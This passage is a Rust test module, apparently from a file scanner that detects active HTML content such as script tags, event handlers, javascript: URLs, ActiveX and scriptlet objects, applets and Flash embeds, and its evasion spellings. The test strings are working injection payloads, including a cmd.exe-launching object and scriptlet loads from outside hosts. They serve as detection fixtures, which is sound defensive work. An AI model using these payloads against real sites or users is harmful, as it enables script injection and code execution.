            assert!(
                found
                    .as_ref()
                    .is_some_and(|f| f.severity == Severity::Alert),
                "{markup}: {found:?}"
            );
        }
        for name in [
            "java&UnderBar;code",
            "&DiacriticalGrave;code&DiacriticalGrave;",
        ] {
            let markup = format!("{object}<param name=\"{name}\" value=Evil></object>");
            assert!(find_active_markup(markup.as_bytes()).is_some(), "{markup}");
        }
        // A tag the text ends inside (30,000 `<a` in one) is no parameter. (It is read
        // once, not again at each `<`: 13 s before review s18-r10's fix; speed is a
        // benchmark's to measure, not a timed test's.)
        let slow = format!("{object}{}", "<a".repeat(30_000));
        assert_eq!(find_markup(slow.as_bytes()), None);
        // The object's own end tag still ends its parameters.
        for after in [
            "<object></object></object><param name=code value=Evil.class>",
            "<!-- -->x</OBJECT ><param name=code value=Evil.class>",
        ] {
            let markup = format!("{object}{after}");
            assert_eq!(find_markup(markup.as_bytes()), None, "{markup}");
        }
    }

    /// Issue 10: a script element with a namespace prefix and an `<object>` of a
    /// scriptlet run script in mshta (Internet Explorer's engine) and got no alert.
    #[test]
    fn namespaced_script_elements_and_scriptlet_objects_run() {
        for markup in [
            &b"\x00\x01<x:script>new ActiveXObject('WScript.Shell').Run('calc')</x:script>"[..],
            b"<svg:script type=\"text/ecmascript\">alert(1)</svg:script>",
            b"<HTML:SCRIPT language=vbscript>x</HTML:SCRIPT>",
            b"<object type=\"text/x-scriptlet\" data=\"http://203.0.113.7/a.sct\"></object>",
            b"<object\ttype='text/scriptlet' width=0 data=a.sct>",
            b"<OBJECT data=\"a.sct\" TYPE = text/x-scriptlet></OBJECT>",
        ] {
            let found = find_markup(markup).expect("found");
            assert_eq!(found.severity, Severity::Alert, "{found:?}");
            let wide: Vec<u8> = markup.iter().flat_map(|&b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {found:?}");
        }
        for text in [
            // Prose and other attributes: no script element, no scriptlet object.
            &b"Protocol: script review; see appendix:script notes"[..],
            b"<a:scripts>x</a:scripts>",
            b"a :script> here",
            b"<embed type=\"text/x-scriptlet\">",
            b"<object type=\"text/x-scriptlets\">",
            b"<object width=1>type=\"text/x-scriptlet\"",
            b"text/x-scriptlet is a MIME type",
        ] {
            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    /// Review s11-r10: the class id was looked for only as written (`clsid:` literally,
    /// its `<object` within 1 KiB before it and no `>` between): an HTML tokenizer (Python's
    /// html.parser reads each of these as `classid="clsid:AE24…"`) decodes character
    /// references in the value, reads a `>` inside a quoted value as text, and takes
    /// attributes of any length before it. Each walked around the alert.
    #[test]
    fn class_ids_are_read_with_the_tokenizers_rules() {
        let padding = "A".repeat(1100);
        for markup in [
            "<object classid=\"&#99;lsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\" data=\"http://x/a.sct\">".to_owned(),
            "<object classid=\"clsid&#58;AE24FDAE-03C6-11D1-8B76-0080C744F389\">".to_owned(),
            "<object classid=\"clsid&colon;{AE24FDAE-03C6-11D1-8B76-0080C744F389}\">".to_owned(),
            "<object classid=\"clsid:&#x41;E24FDAE-03C6-11D1-8B76-0080C744F389\">".to_owned(),
            "<object title=\"a>b\" classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\">".to_owned(),
            format!("<object data=\"{padding}\" classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\">"),
        ] {
            let bytes = [&b"\x00\x01\x02"[..], markup.as_bytes()].concat();
            let found = find_markup(&bytes).expect(&markup);
            assert_eq!(found.severity, Severity::Alert, "{found:?}");
            assert!(found.detail.contains("an <object> of the DHTML scriptlet"), "{}", found.detail);
            let wide: Vec<u8> = bytes.iter().flat_map(|&b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {markup}");
        }
        // (`classid="java:…"` runs an applet: see objects_naming_java_classes_run.)
        let text = "<object classid=\"&#99;lsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\">";
        assert_eq!(find_markup(text.as_bytes()), None, "{text}");
    }

    /// Issue 10 (session 13): every way a page names plug-in content that runs code with
    /// no script of its own: a class id quoted with backticks (which Internet Explorer's
    /// engine, mshta's, reads as quotes) or entity-encoded, the Java or Flash plug-in
    /// named by MIME type on an `<object>` or `<embed>`, a Flash movie named by its file,
    /// and an `<applet>`. Each walked around the search; each is found in UTF-16 too.
    #[test]
    fn plugin_content_named_any_way_runs() {
        for markup in [
            &b"<object classid=`clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389` data=`http://x/a.sct`>"[..],
            b"<object classid=`clsid:{D27CDB6E-AE6D-11cf-96B8-444553540000}`>",
            b"<OBJECT CLASSID = `&#99;lsid:8AD9C840-044E-11D1-B3E9-00805F499D93`>",
            b"<object width=1 classid=`clsid&#58;CAFEEFAC-0017-0000-0045-ABCDEFFEDCBA`>",
            b"<object type=`text/x-scriptlet` data=`http://x/a.sct`>",
            b"<object type=\"application/x-java-applet\"><param name=code value=Evil.class></object>",
            b"<embed type='application/x-java-applet;version=1.6' code=Evil.class>",
            b"<EMBED TYPE=APPLICATION/X-SHOCKWAVE-FLASH src=x>",
            b"<object type=`application/x-shockwave-flash` data=x>",
            b"<embed src=\"http://203.0.113.7/x.swf\">",
            b"<object data='movie.SWF?x=1'>",
            b"<applet code=\"Evil.class\" archive=\"evil.jar\" width=1 height=1></applet>",
            b"<APPLET CODE=Evil width=1>",
            b"<applet archive=evil.jar code=`Main`>",
            b"<applet code=&#69;vil>",
            b"<object type=\"application/x-java-vm\"><param name=code value=Evil></object>",
            b"<object type='application/x-java-bean'><param name=code value=Evil></object>",
            b"<object type=\"application/x-silverlight-2\" data=\"data:application/x-silverlight-2,\">",
            b"<embed type=application/x-silverlight src=x.xap>",
        ] {
            let shown = String::from_utf8_lossy(markup);
            let bytes = [&b"\x00\x01\x02"[..], markup].concat();
            let found = find_markup(&bytes).unwrap_or_else(|| panic!("{shown}"));
            assert_eq!(found.severity, Severity::Alert, "{shown}: {found:?}");
            let wide: Vec<u8> = bytes.iter().flat_map(|&b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {shown}");
        }
        for text in [
            &b"<object data=\"report.pdf\" type=\"application/pdf\"></object>"[..],
            b"<embed src=\"scan.png\">",
            b"<p>application/x-java-applet is a MIME type</p>",
            b"<input type=\"application/x-shockwave-flash\">",
            b"<embed width=1>type=application/x-shockwave-flash",
            b"<applet width=1 height=1></applet>",
            b"<code>x = 1</code> and code = 5",
            b"<object classid=`clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8`>",
            b"<a href=\"movie.swf.html\">movie</a>",
            b"<p>object = 3; the application/x-silverlight-2 type</p>",
        ] {
            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    /// Issue 10 (session 17): an `<object>` naming a Java class by `classid="java:…"`
    /// (HTML 4.01's way, with `codetype="application/java"`) was clean: the class id
    /// was judged only as `clsid:`. Each spelling is read as the tokenizer reads it
    /// (entities, case, backticks, blanks); a class id or code type naming no code is not.
    #[test]
    fn objects_naming_java_classes_run() {
        for markup in [
            &b"<object classid=\"java:Evil.class\" width=1></object>"[..],
            b"<OBJECT CLASSID='JAVA:Evil'>",
            b"<object classid=`java:pkg.Evil.class`>",
            b"<object classid=\"&#106;ava&#58;Evil.class\">",
            b"<object classid=\"java&colon;Evil\">",
            b"<object classid=\" java: Evil.class\">",
            b"<object title=\"a>b\" classid=java:Evil.class>",
            b"<object classid=\"javabean:Evil.ser\">",
            b"<object codetype=\"application/java\" data=x>",
            b"<object codetype='application/x-java-applet;version=1.6'>",
            b"<object codetype=application&#47;java-archive>",
        ] {
            let shown = String::from_utf8_lossy(markup);
            let bytes = [&b"\x00\x01\x02"[..], markup].concat();
            let found = find_markup(&bytes).unwrap_or_else(|| panic!("{shown}"));
            assert_eq!(found.severity, Severity::Alert, "{shown}: {found:?}");
            let wide: Vec<u8> = bytes.iter().flat_map(|&b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {shown}");
        }
        for text in [
            &b"<object classid=\"java:\"></object>"[..],
            b"<object codetype=\"text/plain\" data=x>",
            b"<p>classid=\"java:Evil.class\" is how HTML 4 named applets</p>",
        ] {
            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    /// Open (review s14-r01): plug-in content that still walks around the search. An
    /// `<applet object=Evil.ser>` (a serialized applet the Java plug-in runs), a type
    /// entity-encoded (`application&#47;x-shockwave-flash`: the tokenizer decodes it
    /// before the engine reads it), and the types `application/java-vm` and
    /// `application/futuresplash`: the search finds attributes and types by needles,
    /// and the packed start searcher is full (64 two-byte starts), so `object`, `type`
    /// and a `/j` or `/f` start cannot be added without reworking it.
    #[test]
    fn plugin_content_the_needles_cannot_reach() {
        for markup in [
            &b"<applet object=\"Evil.ser\" archive=\"evil.jar\" width=1></applet>"[..],
            b"<embed type=\"application&#47;x-shockwave-flash\" src=x>",
            b"<embed type=\"application&#x2f;x-shockwave-flash\" src=x>",
            b"<embed type=\"application&sol;x-shockwave-flash\">",
            b"<object type=\"application&#47;x-java-applet\"><param name=code value=Evil></object>",
            b"<embed type=\"application/futuresplash\" src=x>",
            b"<object type=\"application/java-vm\"><param name=code value=Evil></object>",
            b"<object codebase=\"http://203.0.113.7/x.cab#version=1,0\" width=1>",
            b"<OBJECT\nTYPE=`APPLICATION/JAVA-VM`>",
            b"<object title=\"a>b\" type=text&#x2F;x-scriptlet data=a.sct>",
        ] {
            let shown = String::from_utf8_lossy(markup);
            let bytes = [&b"\x00\x01\x02"[..], markup].concat();
            let found = find_markup(&bytes);
            assert!(
                found.is_some_and(|f| f.severity == Severity::Alert),
                "{shown}"
            );
            let wide: Vec<u8> = bytes.iter().flat_map(|&b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {shown}");
        }
        for text in [
            &b"<object type=\"application/java-archive\" data=x.jar>"[..],
            b"<embed type=\"text/x-scriptlet\">",
            b"<objects type=application/java-vm>",
            b"<object codebase=\"\">",
            b"<applet object=\"\">",
            b"<object type=\"application/java-vm\"",
        ] {
            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    /// MAX_TAG_BYTES for a plug-in tag: one that closes within the limit is read and
    /// judged; one still open there is a warning naming the limit.
    #[test]
    fn a_plugin_tag_past_its_limit_is_a_warning_and_at_it_is_read() {
        let tag = |padding: usize| {
            let mut bytes = b"<object title=\"".to_vec();
            bytes.resize(padding, b'a');
            bytes.extend_from_slice(b"\" type=application/futuresplash>");
            bytes.extend_from_slice(&[b'x'; 16]);
            bytes
        };
        let within = tag(MAX_TAG_BYTES - 64);
        let found = find_markup(&within).expect("read");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
        let past = tag(MAX_TAG_BYTES + 64);
        let found = find_markup(&past).expect("warned");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(found.detail.contains("MAX_TAG_BYTES"), "{}", found.detail);
    }

    /// Session 11: an `<object>` naming the scriptlet's class by its id (what
    /// `type="text/x-scriptlet"` names by MIME type) ran the scriptlet in mshta and got
    /// no alert; nor did the other classes that run code with no script of the page.
    /// Found in any case and spacing, braces or not, quoted or not, in UTF-16 too.
    #[test]
    fn objects_of_active_classes_named_by_class_id_run() {
        for markup in [
            &b"\x00\x01<object classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\" data=\"http://203.0.113.7/a.sct\"></object>"[..],
            b"<OBJECT CLASSID = 'CLSID:ae24fdae-03c6-11d1-8b76-0080c744f389' width=0>",
            b"<object\nwidth=0\nclassid=clsid:{AE24FDAE-03C6-11D1-8B76-0080C744F389}>",
            b"<object/classid=\"clsid:Ae24FdAe-03C6-11d1-8B76-0080c744F389\">",
            b"<object id=x classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\"><param name=\"Command\" value=\"ShortCut\"><param name=\"Item1\" value=\",cmd.exe,/c calc\"></object>",
            b"<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\"><param name=movie value=x.swf>",
            b"<object classid=\"clsid:8AD9C840-044E-11D1-B3E9-00805F499D93\">",
            b"<object classid=\"clsid:CAFEEFAC-0017-0000-0045-ABCDEFFEDCBA\">",
        ] {
            let found = find_markup(markup).expect("found");
            assert_eq!(found.severity, Severity::Alert, "{found:?}");
            assert!(found.detail.contains("an <object> of"), "{}", found.detail);
            let wide: Vec<u8> = markup.iter().flat_map(|&b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {found:?}");
        }
        for text in [
            // A class a script drives (WScript.Shell) runs nothing on its own.
            &b"<object classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>"[..],
            b"The scriptlet class is clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389.",
            b"<object width=1>classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\"",
            b"<object classid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F38\">",
            b"<object xclassid=\"clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389\">",
            b"<object classid=\"clsid:CAFEEFAC-zz17-0000-0045-ABCDEFFEDCBA\">",
        ] {
            assert_eq!(find_markup(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn script_tags_and_handlers_are_found_in_any_case_and_encoding() {
        for markup in [
            &b"\0\x01garbage<SCRIPT>alert(1)</script>"[..],
            b"xx<script/src=//evil.example/x.js>",
            b"II*\0\x08\0\0\0<img src=x onerror=alert(1)>",
            b"ACME CT<svg/onload=alert(1)>",
            b"<body onLoad = \"x()\">",
            b"<HTA:APPLICATION id=x>",
            b"GetObject(\"script:https://evil.example/x.sct\")",
        ] {
            assert!(find_active_markup(markup).is_some(), "{markup:?}");
        }
        let wide = utf16le(b"\xff\xfe<script>alert(1)</script>");
        assert!(
            find_active_markup(&wide)
                .expect("utf-16")
                .1
                .contains("UTF-16")
        );
    }

    /// Review finding: `>` or `<` inside a quoted value, a value padded past 512 bytes,
    /// `javascript:` URLs (entity-encoded too) walked around the markup search. Each case
    /// is checked against Python's `html.parser` (tests/markup_html_parser.rs).
    #[test]
    fn quoted_values_long_values_and_script_urls_are_read_as_browsers_read_them() {
        let long = format!("<img alt=\"{}\" src=x onerror=alert(1)>", "a".repeat(4000));
        for markup in [
            &b"<img alt=\"a>b\" src=x onerror=alert(1)>"[..],
            b"<img alt='<b>' onerror=alert(1) src=x>",
            long.as_bytes(),
            b"<a href=\"javascript:alert(1)\">x</a>",
            b"<iframe src=\"&#106;avascript:alert(1)\"></iframe>",
            b"<a href=\"&#x6A;ava&#x09;script&colon;alert(1)\">x</a>",
            b"<form action=vbscript:msgbox(1)><input type=submit></form>",
            b"<button formaction=' javascript:alert(1)'>x</button>",
            // Review s5-r10: a frame document and document data: URLs.
            b"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            b"<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
            b"<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            b"<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
            b"<div onclick=\"alert(1)\">x</div>",
            b"<div style=\"width: expression(alert(1))\">x</div>",
            b"<p style='background:url(&#106;avascript:alert(1))'>x</p>",
            // Walk-arounds (session 5): an object's document, an embed's unquoted data:
            // URL, a refresh to a script URL.
            b"<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            b"<OBJECT DATA='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
            b"<embed src=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>",
            b"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            b"<META CONTENT='0; URL=data:text/html,<script>alert(1)</script>' HTTP-EQUIV=Refresh>",
        ] {
            let found = find_markup(markup);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|m| m.severity == Severity::Alert),
                "{}: {found:?}",
                String::from_utf8_lossy(markup)
            );
        }
        for inert in [
            &b"<p>a</p><p>b</p><p>c</p><p>d</p><p>e</p><p>f</p><p>g</p><p>h</p><p>i</p> action = 5"
                [..],
            b"<a href=\"https://example.org/javascript:x\">x</a>",
            b"<iframe srcdoc=\"&lt;p&gt;report&lt;/p&gt;\"></iframe>",
            b"<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            b"<img alt=\"onerror=alert(1)\" src=x.png>",
            b"<p style=\"color: red; font-weight: bold\">x</p>",
            b"<p title='x src=javascript:y'>",
            b"<meta http-equiv=\"refresh\" content=\"30;url=https://example.org/\">",
            b"<meta name=\"description\" content=\"javascript:tips\">",
            b"<div data=\"data:text/html,x\">",
            b"<object data=\"report.pdf\" type=\"application/pdf\"></object>",
        ] {
            assert_eq!(
                find_markup(inert),
                None,
                "{}",
                String::from_utf8_lossy(inert)
            );
        }
    }

    /// The limits: a tag longer than MAX_TAG_BYTES holding a handler is a warning; one
    /// byte shorter it is read and alerts.
    #[test]
    fn a_tag_past_its_limit_is_a_warning_and_at_it_is_read() {
        let tag = |pad: usize| {
            let t = format!("<img alt=\"{}\" onerror=alert(1)>", "a".repeat(pad));
            let to_handler = t.len() - "onerror=alert(1)>".len();
            (t, to_handler)
        };
        let (within, at) = tag(MAX_TAG_BYTES - 20);
        assert!(at <= MAX_TAG_BYTES);
        let found = find_markup(within.as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
        let (past, at) = tag(MAX_TAG_BYTES + 10);
        assert!(at > MAX_TAG_BYTES);
        let found = find_markup(past.as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(found.detail.contains("MAX_TAG_BYTES"), "{}", found.detail);
    }

    /// MAX_TAG_TRIES: the holding tag found behind that many tags in a quoted value is
    /// read; behind one more it is a warning.
    #[test]
    fn tag_tries_at_the_limit_are_read_and_past_it_are_a_warning() {
        let markup =
            |inner: usize| format!("<img alt='{}' onerror=alert(1) src=x>", "<b>".repeat(inner));
        let found = find_markup(markup(MAX_TAG_TRIES - 1).as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
        let found = find_markup(markup(MAX_TAG_TRIES).as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(found.detail.contains("MAX_TAG_TRIES"), "{}", found.detail);
    }

    /// Review finding (s7-r10): prose and code with many `<` (`a<b`, `List<T>`, heredocs)
    /// before `data = hash.read();` (nodejs's crypto.md, vim's eval.txt) were warnings
    /// past MAX_TAG_TRIES. An attribute whose own value runs nothing is inert whatever
    /// holds it; a handler, or a value with a script URL, is still a warning there.
    #[test]
    fn past_the_tag_tries_an_attribute_whose_value_runs_nothing_is_inert() {
        let lead = "if (a<b && 'x' < c) { List<String> l = f(\"<y\"); }\n".repeat(MAX_TAG_TRIES);
        for text in [
            "data = hash.read();\n",
            "data =<< trim DATA\n",
            "src=\"https://example.org/x.png\"\n",
        ] {
            let file = format!("{lead}{text}");
            let found = find_markup(file.as_bytes());
            assert!(found.is_none(), "{text}: {found:?}");
        }
        for text in [
            "data = \"javascript:alert(1)\"\n",
            "href=&#106;avascript:alert(1)\n",
            "onerror = alert(1)\n",
            "style='x:expression(alert(1))'\n",
        ] {
            let file = format!("{lead}{text}");
            let found = find_markup(file.as_bytes()).expect("found");
            assert_eq!(found.severity, Severity::Warning, "{text}: {found:?}");
            assert!(found.detail.contains("MAX_TAG_TRIES"), "{}", found.detail);
        }
    }

    /// MAX_MARKUP_CANDIDATES: a live handler after that many inert candidates less one is
    /// found; after that many, the search says it stopped.
    #[test]
    fn markup_candidates_at_the_limit_are_checked_and_past_it_are_a_warning() {
        let file = |inert: usize| {
            let mut text = "<p>x</p> src=1\n".repeat(inert);
            text.push_str("<img onerror=alert(1)>");
            text
        };
        let found = find_markup(file(MAX_MARKUP_CANDIDATES - 1).as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
        let found = find_markup(file(MAX_MARKUP_CANDIDATES).as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(
            found.detail.contains("MAX_MARKUP_CANDIDATES"),
            "{}",
            found.detail
        );
    }

    /// The start search finds what the automaton alone finds, match for match: in mixed
    /// case, in UTF-16, at odd offsets, overlapping a start (`<src`, `<sstyle`), and in
    /// pseudo-random binary with NUL bytes every other byte, like 16-bit pixel data.
    #[test]
    fn the_start_search_misses_no_match_of_the_automaton() {
        let (ascii, wide) = SEARCHERS.as_ref().expect("searchers");
        assert!(
            ascii.starts.is_some() && wide.starts.is_some(),
            "no packed searcher"
        );
        let mut state = 0x2545_f491_4f6c_dd1du64;
        let mut binary: Vec<u8> = (0..200_000)
            .map(|i| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                if i % 2 == 1 {
                    (state & 1) as u8
                } else {
                    (state >> 8) as u8
                }
            })
            .collect();
        for (i, plant) in [
            &b"<sRc="[..],
            b"OnLoAd",
            b"<sstyle",
            b"xlowsrc",
            b"<SCRIPT",
            b"script:",
        ]
        .iter()
        .enumerate()
        {
            let at = 1000 + i * 7919;
            binary[at..at + plant.len()].copy_from_slice(plant);
            let wide_plant = utf16le(plant);
            let at = 100_001 + i * 7919;
            binary[at..at + wide_plant.len()].copy_from_slice(&wide_plant);
        }
        let mut texts: Vec<Vec<u8>> = vec![binary];
        texts.push(b"<src=1 <sstyle=2 onfocusin=3 ONFOCUS= lowSRC x<hta:application".to_vec());
        texts.push(utf16le(
            b"<src=1 <sstyle=2 onfocusin=3 ONFOCUS= lowSRC x<hta:application",
        ));
        let mut odd = vec![0u8];
        odd.extend(utf16le(b"<img src=x onerror=alert(1)>"));
        texts.push(odd);
        for text in &texts {
            for searcher in [ascii, wide] {
                let plain: Vec<Match> = searcher.automaton.find_iter(text.as_slice()).collect();
                let fast: Vec<Match> = searcher.find_iter(text).collect();
                assert_eq!(fast, plain);
            }
        }
        // The planted ones are there to be found (the comparison is not of two empties).
        assert!(ascii.find_iter(&texts[0]).count() >= 6);
        assert!(wide.find_iter(&texts[0]).count() >= 6);
    }

    thread_local! {
        /// Anchored searches run by `Searcher::find_iter` on this thread.
        pub(super) static ANCHORED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
    }

    /// Review s6-r10: 100 MB of `oN` took 3.6 s, an anchored search at every other byte
    /// (each `oN` can start `onload`). Where starts are dense the DFA reads the stretch in
    /// one pass: a few anchored searches per stretch, and the same matches as the
    /// automaton alone finds, including those across the stretches' ends.
    #[test]
    fn dense_starts_are_read_in_one_pass_with_the_same_matches() {
        let (ascii, wide) = SEARCHERS.as_ref().expect("searchers");
        let mut dense = b"oN".repeat(500_000);
        // Matches planted across the ends of stretches, in both encodings, and one
        // longer pattern whose shorter prefix is a pattern too (`onfocusin`/`onfocus`).
        for (i, plant) in [&b"onload"[..], b"onfocusin", b"ONERROR", b"<script"]
            .iter()
            .enumerate()
        {
            for end in [DENSE_STRETCH, 3 * DENSE_STRETCH, 5 * DENSE_STRETCH] {
                let at = end - 3 + i * 40_000;
                dense[at..at + plant.len()].copy_from_slice(plant);
                let wide_plant = utf16le(plant);
                let at = end + 200_001 + i * 40_000;
                dense[at..at + wide_plant.len()].copy_from_slice(&wide_plant);
            }
        }
        let wide_dense = utf16le(&b"oN".repeat(300_000));
        for text in [&dense, &wide_dense] {
            for searcher in [ascii, wide] {
                ANCHORED.with(|n| n.set(0));
                let fast: Vec<Match> = searcher.find_iter(text).collect();
                let anchored = ANCHORED.with(|n| n.get());
                let plain: Vec<Match> = searcher.automaton.find_iter(text.as_slice()).collect();
                assert_eq!(fast, plain);
                assert!(anchored < text.len() / 1000, "{anchored} anchored searches");
            }
        }
        assert!(ascii.find_iter(&dense).count() >= 12);
        assert!(wide.find_iter(&dense).count() >= 12);
    }

    /// Perf on bench/scan's `images` tree: the start search stops where two characters
    /// of a pattern are (once per ~1,500 bytes of pixel data), and an anchored search at
    /// each cost as much as the start search. A start whose third character is no
    /// pattern's is turned away without one; the matches are the automaton's own.
    #[test]
    fn starts_whose_third_character_starts_no_pattern_need_no_anchored_search() {
        let (ascii, wide) = SEARCHERS.as_ref().expect("searchers");
        let gap = b"-".repeat(100);
        let mut text = Vec::new();
        let mut wide_text = Vec::new();
        for _ in 0..1000 {
            for start in [&b"on#"[..], b"sr\0", b"<s9", b"Hr!"] {
                text.extend_from_slice(start);
                text.extend_from_slice(&gap);
                wide_text.extend(utf16le(start));
                wide_text.extend_from_slice(&gap);
            }
        }
        for plant in [&b"onload"[..], b"SRC", b"<script", b"href"] {
            text.extend_from_slice(plant);
            text.extend_from_slice(&gap);
            wide_text.extend(utf16le(plant));
            wide_text.extend_from_slice(&gap);
        }
        for (searcher, text) in [(ascii, &text), (wide, &wide_text)] {
            ANCHORED.with(|n| n.set(0));
            let fast: Vec<Match> = searcher.find_iter(text).collect();
            let anchored = ANCHORED.with(|n| n.get());
            let plain: Vec<Match> = searcher.automaton.find_iter(text.as_slice()).collect();
            assert_eq!(fast, plain);
            assert_eq!(fast.len(), 4);
            assert!(anchored <= 8, "{anchored} anchored searches");
        }
    }

    #[test]
    fn words_that_are_not_markup_are_not_found() {
        for text in [
            &b"onload=1 without a tag"[..],
            b"<scripts are fine>",
            b"a < b onload= c",
            b"<p>text</p> onerror=1",
            b"javascript:void(0) script: plain",
            b"the description: script: none",
        ] {
            assert_eq!(find_active_markup(text), None, "{text:?}");
        }
    }
}
